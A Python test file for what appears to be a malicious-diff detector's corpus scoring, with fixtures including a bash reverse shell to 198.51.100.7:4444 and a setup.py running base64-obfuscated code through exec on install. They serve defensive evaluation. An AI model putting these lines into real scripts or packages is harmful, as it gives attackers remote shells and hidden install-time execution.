"""`gatehouse eval` scores a corpus the way the corpus README says."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from reviewer.cli.eval import evaluate, hits_marked, load_corpus
from reviewer.cli.eval_report import summarise
from reviewer.core.findings import Confidence, Finding, Severity


def finding(path: str, start: int, end: int | None = None) -> Finding:
    return Finding(
        "r", "exfiltration", Severity.HIGH, Confidence.HIGH, path, start, end or start, "m"
    )


def test_within_two_lines_of_a_marked_line_counts():
    marked = {"a.py": [10, 11]}
    assert hits_marked(finding("a.py", 12), marked)
    assert hits_marked(finding("a.py", 13), marked)
    assert not hits_marked(finding("a.py", 14), marked)
    assert hits_marked(finding("a.py", 1, 8), marked)
    assert not hits_marked(finding("b.py", 10), marked)


def test_a_path_without_lines_means_the_whole_file():
    assert hits_marked(finding("evil.sh", 400), {"evil.sh": []})


def write_case(
    root: Path, case_id: str, diff: str, lines: list[int], categories: list[str]
) -> None:
    d = root / "malicious" / case_id
    d.mkdir(parents=True)
    (d / "change.diff").write_text(diff)
    (d / "meta.json").write_text(
        json.dumps({"id": case_id, "categories": categories, "malicious_lines": {"x.sh": lines}})
    )


def test_corpus_scoring_end_to_end(tmp_path: Path):
    shell = (
        "diff --git a/x.sh b/x.sh\nnew file mode 100644\n"
        "--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1,3 @@\n"
        "+#!/bin/sh\n+echo hello\n+bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"
    )
    write_case(tmp_path, "shell", shell, [3], ["reverse-shell"])
    benign = tmp_path / "benign" / "o__r"
    benign.mkdir(parents=True)
    (benign / "abc.diff").write_text(
        shell.replace("x.sh", "y.sh").replace(
            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "echo bye"
        )
    )
    (benign / "abc.json").write_text(json.dumps({"added_lines": 3}))
    cases = load_corpus(tmp_path)
    assert [c.malicious for c in cases] == [True, False]
    results = evaluate(tmp_path, jobs=1)
    s = summarise(results)
    assert s["malicious_cases"] == 1 and s["benign_commits"] == 1 and s["benign_added_lines"] == 3
    assert s["per_category"]["reverse-shell"]["cases"] == 1
    assert s["noise_per_10k_lines"] == s["benign_medium_plus"] * 10000 / 3
    assert 0.0 <= s["recall"] <= 1.0


def test_not_a_corpus_is_a_clear_error(tmp_path: Path):
    from reviewer.errors import GatehouseError

    with pytest.raises(GatehouseError, match="not a corpus"):
        load_corpus(tmp_path)


@pytest.mark.corpus
def test_eval_runs_on_the_shared_corpus(corpus_dir: Path):
    results = evaluate(corpus_dir)
    s = summarise(results)
    assert s["malicious_cases"] >= 21 and s["benign_commits"] >= 400
    assert s["benign_added_lines"] >= 20000
    assert not s["errors"]
    # Diffs alone give fragments that do not always parse; that is listed, never a failed scan.
    assert s["degraded_scans"] == 0


def test_a_whole_package_case_counts_a_finding_anywhere_and_reports_its_context(tmp_path: Path):
    """Package corpora label whole packages: a medium+ finding in any file detects the case."""
    setup = (
        "import base64\nfrom setuptools import setup\n"
        "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))\nsetup(name='p')\n"
    )
    lines = setup.splitlines()
    diff = (
        "diff --git a/setup.py b/setup.py\nnew file mode 100644\n--- /dev/null\n+++ b/setup.py\n"
        f"@@ -0,0 +1,{len(lines)} @@\n" + "".join(f"+{line}\n" for line in lines)
    )
    d = tmp_path / "malicious" / "p-1.0"
    d.mkdir(parents=True)
    (d / "change.diff").write_text(diff)
    (d / "meta.json").write_text(
        json.dumps(
            {
                "id": "p-1.0",
                "categories": [],
                "malicious_lines": {},
                "family_size": 3,
                "added_lines": len(lines),
            }
        )
    )
    benign = tmp_path / "benign" / "o__r"
    benign.mkdir(parents=True)
    (benign / "setup-py.diff").write_text(diff.replace("exec(base64.b64decode(", "print(("))
    (benign / "setup-py.json").write_text(json.dumps({"added_lines": len(lines)}))
    results = evaluate(tmp_path, jobs=1)
    s = summarise(results)
    assert s["detected"] == 1 and s["detected_high"] == 1
    assert s["recall_family_weighted"] == 1.0
    assert s["per_context"]["install"]["detected"] == 1
    assert s["detected_by_category"].get("obfuscated-exec") == 1
    assert s["slowest"] and all(row["seconds"] >= 0 for row in s["slowest"])
    assert s["benign_medium_plus"] == sum(
        v["medium_plus"] for v in s["noise_per_analyzer"].values()
    )
